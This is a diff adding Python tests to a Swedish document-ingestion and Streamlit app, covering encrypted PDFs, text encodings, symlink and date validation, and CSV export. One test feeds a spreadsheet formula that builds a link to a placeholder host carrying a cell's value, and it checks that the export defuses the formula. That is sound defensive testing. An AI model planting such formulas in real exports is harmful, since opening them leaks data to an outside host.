@@ -7,6 +7,7 @@ problem.
 
 from __future__ import annotations
 
+import csv
 import io
 import subprocess
 import tomllib
@@ -16,18 +17,22 @@ from collections.abc import Iterator
 from pathlib import Path
 
 import duckdb
+import polars as pl
+import pypdf
 import pytest
 import streamlit as st
 from conftest import corpus_snapshot
 from streamlit import config
 from streamlit.testing.v1 import AppTest
 from streamlit.testing.v1.errors import AppTestError
+from test_ingest import PDF
 
 from etl.errors import InputError
-from etl.ingest import MAX_FILE_BYTES, ingest_bytes
+from etl.ingest import MAX_FILE_BYTES, ingest, ingest_bytes
 from etl.load import MAX_UNPACKED_BYTES, extract_text
 from etl.paths import ROOT, Paths
 from etl.pipeline import build
+from etl.read.export import csv_text, export
 from etl.read.query import Atlas
 
 APP_TIMEOUT = 30  # seconds: the first run imports the data stack
@@ -344,3 +349,112 @@ def test_word_text_is_read_in_order_with_nothing_left_out() -> None:
         "Text i en innehållskontroll",
         "Insats | Ansvar\nDialog\ninre tabell | Kulturförvaltningen",
     ]
+
+
+def aes_encrypted(pdf: bytes, user_password: str) -> bytes:
+    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(io.BytesIO(pdf)))
+    writer.encrypt(user_password, owner_password="ägare", algorithm="AES-256")
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def test_an_aes_pdf_that_opens_without_a_password_is_read() -> None:
+    assert extract_text("skyddad.pdf", aes_encrypted(PDF, "")) == extract_text("öppen.pdf", PDF)
+
+
+def test_an_aes_pdf_that_needs_a_password_says_so() -> None:
+    with pytest.raises(InputError) as error:
+        extract_text("låst.pdf", aes_encrypted(PDF, "hemligt"))
+    assert str(error.value) == (
+        "låst.pdf: the PDF is protected with a password; save or print it to a new PDF without "
+        "a password and add that"
+    )
+
+
+@pytest.mark.parametrize(
+    "data",
+    [bytes(range(0xA0, 0xB4)), b"\xff\xfe" + bytes(range(0x41, 0x61)), b"\xc4\xd6\xe5\xe4\xf6PK"],
+    ids=["latin-1 bytes", "utf-16 bytes", "short binary"],
+)
+def test_small_binary_files_are_not_taken_for_text(data: bytes) -> None:
+    with pytest.raises(InputError, match="this is not a text file"):
+        extract_text("liten.txt", data)
+
+
+def test_legacy_swedish_text_is_still_read() -> None:
+    text = "Nämnden ska öka kunskapen om rasism och främja lika rättigheter i skolan."
+    assert extract_text("gammal.txt", text.encode("cp1252")) == text
+
+
+def test_csv_exports_keep_formulas_as_text(built_data: Paths, tmp_path: Path) -> None:
+    frame = pl.DataFrame(
+        {"text": ['=HYPERLINK("http://example.invalid/?"&A1;"klicka")', "+1", "vanlig"]}
+    )
+    assert csv_text(frame).splitlines() == [
+        "text",
+        '"\'=HYPERLINK(""http://example.invalid/?""&A1;""klicka"")"',
+        "'+1",
+        "vanlig",
+    ]
+    (written,) = [p for p in export(built_data.db, "csv", tmp_path) if p.name == "items.csv"]
+    cells = [row for row in csv.reader(io.StringIO(written.read_text(encoding="utf-8")))]
+    assert not any(cell[:1] in ("=", "+", "-", "@") for row in cells for cell in row[1:2])
+
+
+def test_upload_reports_the_passages_of_the_new_database(fresh_built: Paths) -> None:
+    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=APP_TIMEOUT)
+    at.run()
+    at.switch_page("pages/sources.py").run()  # the page has the old database open
+    at.file_uploader[0].set_value(("plan.txt", PLAN, "text/plain"))
+    texts = {box.label: box for box in at.text_input}
+    texts["Stad"].set_value("Malmö")
+    texts["Organ"].set_value("Kulturnämnden")
+    at.button[-1].click().run()
+    with duckdb.connect(str(fresh_built.db), read_only=True) as con:
+        (count,) = con.execute("SELECT item_count FROM documents WHERE doc_id = 'plan'").fetchone()
+    assert count > 0
+    assert at.success[0].value == f"plan\\.txt är tillagt: {count} passager hämtades."
+
+
+def test_a_symbolic_link_is_refused_on_the_command_line_and_in_data_raw(
+    fresh_data: Paths, tmp_path: Path
+) -> None:
+    outside = tmp_path / "utanför.txt"
+    outside.write_bytes(PLAN)
+    link = tmp_path / "länk.txt"
+    link.symlink_to(outside)
+    before = corpus_snapshot(fresh_data)
+    with pytest.raises(InputError, match=f"^{link}: this is a symbolic link to {outside}; give"):
+        ingest(fresh_data, link, city="Malmö", organ="Kulturnämnden", doc_kind="plan")
+    (fresh_data.raw / "länk.txt").symlink_to(outside)
+    with pytest.raises(InputError) as error:
+        build(fresh_data, progress=lambda _: None)
+    assert str(error.value) == (
+        "raw/länk.txt is a symbolic link, not a file; put the file itself in raw/ "
+        "(or remove the link)"
+    )
+    (fresh_data.raw / "länk.txt").unlink()
+    assert corpus_snapshot(fresh_data) == before
+
+
+@pytest.mark.parametrize("when", ["２０２４", "0000", "0202-01-01", "2024-02-30"])
+def test_dates_that_cannot_be_are_refused_by_ingest_and_build(fresh_data: Paths, when: str) -> None:
+    with pytest.raises(InputError, match="is not a date written YYYY, YYYY-MM or YYYY-MM-DD"):
+        add(fresh_data, "Malmö", new_city=False, date=when)
+    lines = fresh_data.manifest.read_text(encoding="utf-8").splitlines(keepends=True)
+    row = next(csv.reader([lines[1]]))
+    row[5] = when
+    out = io.StringIO()
+    csv.writer(out, lineterminator="\n").writerow(row)
+    fresh_data.manifest.write_text(lines[0] + out.getvalue() + "".join(lines[2:]), encoding="utf-8")
+    with pytest.raises(InputError, match=f"date '{when}' is not YYYY, YYYY-MM or YYYY-MM-DD"):
+        build(fresh_data, progress=lambda _: None)
+
+
+def test_a_killed_build_leaves_no_write_ahead_log_behind(fresh_built: Paths) -> None:
+    dead = 2**22 + 1  # above the kernel's default pid_max: no process has it
+    stale = fresh_built.db.with_name(f".{fresh_built.db.name}.{dead}.tmp.wal")
+    stale.write_bytes(b"WAL of a build killed halfway")
+    build(fresh_built, progress=lambda _: None)
+    assert not stale.exists()
